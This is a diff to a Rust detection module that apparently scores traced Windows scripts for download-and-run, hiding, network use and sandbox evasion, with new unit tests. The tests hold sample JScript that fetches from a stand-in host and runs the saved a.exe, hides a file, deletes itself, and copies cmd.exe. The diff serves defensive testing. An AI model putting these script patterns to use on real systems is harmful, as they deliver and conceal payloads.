@@ -2,6 +2,7 @@
 //! alone is no sign is told as information.
 
 use module_kit::{Finding, Findings, Severity};
+use script_host::files::GIVEN_PROGRAM;
 use script_host::trace::{Touched, Trace};
 use script_host::{Category, Ended, commands};
 
@@ -33,15 +34,15 @@ fn is_runnable(path: &str) -> bool {
     ENDS.iter().any(|end| lower.ends_with(end))
 }
 
-/// Whether a process is started from a file that the script wrote.
-fn runs_what_it_wrote(trace: &Trace) -> Option<&str> {
+/// A file that the script wrote and that a process runs: its path and its content. A report that is only shown is none.
+fn runs_what_it_wrote(trace: &Trace) -> Option<&(String, Vec<u8>)> {
     // Windows takes both slashes, and scripts mix them.
     let commands: Vec<String> =
         trace.processes.iter().map(|process| process.target.to_lowercase().replace('/', "\\")).collect();
-    let written = trace.dropped.iter().map(|(path, _)| path.as_str());
-    written.into_iter().find(|path| {
+    trace.dropped.iter().find(|(path, content)| {
         let lower = path.to_lowercase();
-        commands.iter().any(|command| command.contains(&lower))
+        let is_shown = commands::is_document(path) && !is_program(content);
+        commands.iter().any(|command| command.contains(&lower) && (!is_shown || commands::runs_files(command)))
     })
 }
 
@@ -51,10 +52,14 @@ fn asked_network(trace: &Trace) -> bool {
 }
 
 fn downloads_and_runs(trace: &Trace, findings: &mut Findings) {
-    let Some(path) = runs_what_it_wrote(trace) else { return };
-    let finding = if asked_network(trace) {
+    let Some((path, content)) = runs_what_it_wrote(trace) else { return };
+    let finding = if asked_network(trace) && trace.answers.iter().any(|answer| content.starts_with(answer)) {
         Finding::new("downloads-and-runs", Severity::Critical, 95, "The script downloads a file and runs it")
             .techniques(&["T1105", "T1204.002"])
+    } else if asked_network(trace) {
+        // What came may have been decoded, or is not what was written.
+        let title = "The script uses the network, writes a file and runs it";
+        Finding::new("downloads-and-runs", Severity::Critical, 75, title).techniques(&["T1105", "T1204.002"])
     } else {
         Finding::new("drops-and-runs", Severity::High, 90, "The script writes a file and runs it")
             .techniques(&["T1204.002"])
@@ -145,7 +150,7 @@ fn evasion(trace: &Trace, findings: &mut Findings) {
         ));
     }
     type Group = (&'static str, &'static [&'static str], Severity, &'static str, &'static [&'static str]);
-    let groups: [Group; 5] = [
+    let groups: [Group; 4] = [
         ("asks-identity", &["asks who"], Severity::Info, "The script asks who and where it is", &["T1033"]),
         ("asks-processes", &["asks which programs"], Severity::Low, "The script asks which programs run", &["T1057"]),
         (
@@ -162,13 +167,6 @@ fn evasion(trace: &Trace, findings: &mut Findings) {
             "The script waits for long, as those do that outwait sandboxes",
             &["T1497.003"],
         ),
-        (
-            "hides",
-            &["deletes itself", "hides a file", "runs what a style sheet"],
-            Severity::Medium,
-            "The script hides what it did or how it runs",
-            &["T1070.004"],
-        ),
     ];
     for (id, words, severity, title, techniques) in groups {
         let found = of(words);
@@ -176,20 +174,52 @@ fn evasion(trace: &Trace, findings: &mut Findings) {
             findings.add(quoted(Finding::new(id, severity, 80, title).techniques(techniques), &found));
         }
     }
+    hides(trace, findings);
+}
+
+/// Ways to hide, each with its own technique.
+const WAYS_TO_HIDE: [(&str, &str); 3] =
+    [("deletes itself", "T1070.004"), ("hides a file", "T1564.001"), ("runs what a style sheet holds", "T1220")];
+
+fn hides(trace: &Trace, findings: &mut Findings) {
+    let way = |it: &Touched| WAYS_TO_HIDE.iter().find(|(operation, _)| *operation == it.operation);
+    let found: Vec<Touched> = trace.evasion.iter().filter(|it| way(it).is_some()).cloned().collect();
+    if found.is_empty() {
+        return;
+    }
+    let mut techniques: Vec<&str> = found.iter().filter_map(way).map(|(_, technique)| *technique).collect();
+    techniques.sort_unstable();
+    techniques.dedup();
+    let finding = Finding::new("hides", Severity::Medium, 80, "The script hides what it did or how it runs");
+    findings.add(quoted(finding.techniques(&techniques), &found));
 }
 
 fn network(trace: &Trace, findings: &mut Findings) {
     if asked_network(trace) {
+        // A drive is no protocol of the web.
+        let is_web = trace.network.iter().any(|it| !matches!(it.operation, "in a command" | "maps a drive"));
+        let techniques: &[&str] = if is_web { &["T1071.001"] } else { &[] };
         let finding =
-            Finding::new("uses-network", Severity::Low, 80, "The script uses the network").techniques(&["T1071.001"]);
+            Finding::new("uses-network", Severity::Low, 80, "The script uses the network").techniques(techniques);
         findings.add(quoted(finding, &trace.network));
     }
 }
 
+/// A program, and not what stands for those that every Windows has.
+fn is_program(content: &[u8]) -> bool {
+    content != GIVEN_PROGRAM && (content.starts_with(b"MZ") || content.starts_with(b"\x7fELF"))
+}
+
 fn writes(trace: &Trace, findings: &mut Findings) {
-    let is_program = |content: &[u8]| content.starts_with(b"MZ") || content.starts_with(b"\x7fELF");
     let programs: Vec<&str> =
         trace.dropped.iter().filter(|(_, content)| is_program(content)).map(|(path, _)| path.as_str()).collect();
+    let copied: Vec<&str> =
+        trace.dropped.iter().filter(|(_, content)| content == GIVEN_PROGRAM).map(|(path, _)| path.as_str()).collect();
+    if !copied.is_empty() {
+        let title = "The script copies a program of Windows";
+        findings
+            .add(Finding::new("copies-program", Severity::Low, 80, title).techniques(&["T1036.003"]).quotes(copied));
+    }
     if !programs.is_empty() {
         let title = "The script writes a program that it holds";
         findings
@@ -241,8 +271,12 @@ fn ended(trace: &Trace, findings: &mut Findings) {
             // Honest programs look at the clock, too.
             let only_date = trace.waits.iter().all(|it| it.operation == "date");
             let severity = if only_date { Severity::Info } else { Severity::Low };
-            let title = "The script did nothing, and had asked for something that it did not get";
-            findings.add(quoted(Finding::new("waits", severity, 60, title).techniques(&["T1497"]), &trace.waits));
+            let (title, techniques): (_, &[&str]) = if only_date {
+                ("The script did nothing, and had asked for the date", &[])
+            } else {
+                ("The script did nothing, and had asked for something that it did not get", &["T1480"])
+            };
+            findings.add(quoted(Finding::new("waits", severity, 60, title).techniques(techniques), &trace.waits));
         }
         _ => {}
     }
@@ -267,5 +301,75 @@ fn ended(trace: &Trace, findings: &mut Findings) {
             .techniques(&["T1497.001"])
             .quotes(quotes.take(MAX_QUOTES)),
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::options::Analyze;
+    use crate::run;
+
+    /// Ids of findings with their severities and techniques.
+    fn found(script: &str, name: &str) -> Vec<String> {
+        let outcome = run::scripts(script.as_bytes(), name, &Analyze::default()).expect("a script");
+        let findings = outcome.findings.into_sorted().into_iter();
+        findings.map(|it| format!("{} {:?} {}", it.id, it.severity, it.techniques.join(","))).collect()
+    }
+
+    #[test]
+    fn what_a_logon_script_does_is_no_attack() {
+        let script = r#"
+            Set network = CreateObject("WScript.Network")
+            Set files = CreateObject("Scripting.FileSystemObject")
+            network.MapNetworkDrive "H:", "\\files\home\" & network.UserName
+            Set log = files.CreateTextFile("C:\Users\Public\logon.txt", True)
+            log.WriteLine "Drives for VirtualBox and VMware hosts"
+            log.Close
+            CreateObject("WScript.Shell").Run "notepad.exe C:\Users\Public\logon.txt"
+        "#;
+        let found = found(script, "logon.vbs");
+        assert!(found.iter().all(|it| it.contains(" Low ") || it.contains(" Info ")), "{found:?}");
+        assert!(found.contains(&"uses-network Low ".to_owned()), "{found:?}");
+    }
+
+    #[test]
+    fn a_copied_program_is_not_one_that_the_script_holds() {
+        let script = r#"new ActiveXObject("Scripting.FileSystemObject").CopyFile("C:\\Windows\\System32\\cmd.exe", "C:\\Users\\Public\\a.exe");"#;
+        let found = found(script, "a.js");
+        assert!(found.contains(&"copies-program Low T1036.003".to_owned()), "{found:?}");
+        assert!(!found.iter().any(|it| it.starts_with("drops-program")), "{found:?}");
+    }
+
+    #[test]
+    fn each_way_to_hide_has_its_technique() {
+        let script = r#"
+            var files = new ActiveXObject("Scripting.FileSystemObject");
+            files.CreateTextFile("C:\\Users\\Public\\a.dat", true).Write("x");
+            files.GetFile("C:\\Users\\Public\\a.dat").Attributes = 2;
+        "#;
+        let hidden = found(script, "a.js");
+        assert!(hidden.contains(&"hides Medium T1564.001".to_owned()), "{hidden:?}");
+        let gone = found(&format!("{script} files.DeleteFile(WScript.ScriptFullName);"), "a.js");
+        assert!(gone.contains(&"hides Medium T1070.004,T1564.001".to_owned()), "{gone:?}");
+    }
+
+    #[test]
+    fn what_is_fetched_and_what_is_only_written_are_told_apart() {
+        let fetch =
+            r#"var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://a.example/b", false); h.send();"#;
+        let run = |content: &str| {
+            format!(
+                r#"{fetch} var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write({content});
+                   s.SaveToFile("C:\\Users\\Public\\a.exe"); new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe");"#
+            )
+        };
+        let title = |script: &str| {
+            let outcome = run::scripts(script.as_bytes(), "a.js", &Analyze::default()).expect("a script");
+            let findings = outcome.findings.into_sorted();
+            findings.into_iter().find(|it| it.id == "downloads-and-runs").map(|it| it.title.to_string())
+        };
+        assert_eq!(title(&run("h.responseBody")).as_deref(), Some("The script downloads a file and runs it"));
+        let other = "The script uses the network, writes a file and runs it";
+        assert_eq!(title(&run("'its own'")).as_deref(), Some(other));
     }
 }
